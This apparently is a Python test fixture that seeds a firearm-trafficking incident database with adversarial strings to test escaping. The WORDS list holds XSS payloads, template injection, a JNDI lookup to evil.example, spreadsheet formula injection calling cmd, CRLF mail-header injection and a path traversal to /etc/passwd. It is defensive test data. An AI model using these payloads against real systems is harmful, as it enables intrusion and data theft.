"""Documents written by somebody who wants to break out: hostile words wherever crawled text can stand."""

from __future__ import annotations

from typing import Any

from sqlalchemy.orm import Session

from db.models import (
    Change,
    Dealer,
    IncidentDealer,
    IncidentFirearm,
    IncidentGroup,
    IncidentPlace,
    Party,
    Quantity,
    TimelineEvent,
    Transfer,
)
from tests.world import Author

LONG = 100_000
WORDS = {
    "script": "<script>alert('ran')</script>",
    "attribute": "\"'><img src=//evil.example/x onerror=alert('ran')>",
    "handler": "' autofocus onfocus=alert('ran') x='",
    "ends": "</textarea></title></style></button><svg onload=alert('ran')>",
    "comment": "<!-- --!> <b>--> <![CDATA[ ]]> <?x ?>",
    "script-address": "javascript:alert('ran')//",
    "data-address": "data:text/html,<script>alert('ran')</script>",
    "template": "{{ 7 * 7 }}{% for x in () %}${7*7}#{7*7}",
    "turned": "exe.\u202egnp.\u202d\u2066x\u2069\u200f\u061c",
    "controls": "a\x07b\x1b[31mc\x08\x7f\x85d\r\nSubject: spoofed\r\n.\r\n",
    "null": "before\x00after",
    "formula": "=cmd|' /C calc'!A0",
    "plus": "+1+1|cmd",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd",
    "tab": "\t=1+1",
    "wide-formula": "＝1+1",
    "lines": "one\u2028two\u2029three\x0bfour",
    "bom": "\ufeff\ufffe\uffffnone",
    "emoji": "🔫👩‍👩‍👧 🇲🇽 \u0300\u0301" + "\u0301" * 50,
    "quotes": '","",\'";|,',
    "long": "x" * LONG,
    "many": "word " * (LONG // 5),
    "entities": "&lt;script&gt;&#0;&#x202e;&amp;",
    "percent": "%00%0a%s%n${jndi:ldap://evil.example/a}",
    "path": "../../../../etc/passwd\\..\\",
}
LETTERS = "ABCDEFGHJKMNPQRSTVWXYZ0123456789"


def public_id(number: int) -> str:
    """The id of the incident of the words of a number."""
    return f"IR-2026-H{LETTERS[number // len(LETTERS)]}{LETTERS[number % len(LETTERS)]}0Z"


def build(session: Session) -> None:
    """One incident for each of the words, which stand in every field of it that a document could fill."""
    author = Author(session)
    for number, words in enumerate(WORDS.values()):
        _incident(author, number, words)
    session.commit()


def _incident(author: Author, number: int, words: str) -> None:
    told = words.replace("\x00", " ")  # no database takes a null byte in a text that claims quote
    short = told[:400]
    version = author.document(number, words, f"{told} It says: {told} and no more. {short}")
    document = version.document
    document.publisher = words
    document.url = f"{words}#{number}"
    document.native_id = f"{words[:200]}#{number}"
    version.published = document.published = "2026-11-17"
    incident = author.incident(
        public_id(number),
        words,
        version,
        stage="charged",
        court="azd",
        region=short,
        case_numbers=[short],
        convergence=["drugs"],
    )

    def evidence(kind: str = "count", value: dict[str, Any] | None = None) -> dict[str, Any]:
        claim = author.claim(version, short, kind)
        claim.value = value or claim.value
        claim.sentence = f"It says: {short} and no more."
        return {"incident_id": incident.id, "claim_id": claim.id, "claim_ids": [claim.id]}

    who: dict[str, Any] = {
        "name": words,
        "status": "charged",
        "statuses": ["charged"],
        "city": words,
        "region": words,
    }
    who |= {"sentence_months": None, "age": None}
    where = {"name": words, "role": "purchase", "region": words, "country": "US"}
    shop = {"name": words, "kind": "ffl", "part": "source", "city": words, "region": words}
    gun = {"make": words, "model": words, "caliber": words, "kind": "rifle"}
    group = {"name": words, "kind": "gang"}
    seller = Dealer(
        key=f"{number}", name=words, spellings=[words, short + "!"], kind="ffl", chain=short, city=words
    )
    party = Party(**{**who, "aliases": [words, short]}, roles=["unknown"], **evidence("defendant", who))
    total = Quantity(
        role="purchased",
        object="rifle",
        low=23,
        high=23,
        basis="exact",
        detail=words,
        chosen=True,
        **evidence(),
    )
    author.session.add_all([seller, party, total])
    author.session.flush()
    dealer = IncidentDealer(**shop, dealer_id=seller.id, **evidence("dealer", shop))
    author.session.add_all(
        [
            dealer,
            IncidentPlace(**where, **evidence("place", where)),
            IncidentFirearm(**gun, **evidence("firearm", gun)),
            IncidentGroup(**group, **evidence("group", group)),
            TimelineEvent(
                event="plea",
                date="2026-06-03",
                precision="day",
                party_id=party.id,
                **evidence("date", {"date": "2026-06-03", "event": "plea"}),
            ),
            Change(incident_id=incident.id, kind="new", summary=words),
        ]
    )
    author.session.flush()
    author.session.add(
        Transfer(
            kind="purchase",
            from_dealer_id=dealer.id,
            to_party_id=party.id,
            quantity_id=total.id,
            told=True,
            reason=words,
            **evidence(),
        )
    )
    author.session.flush()
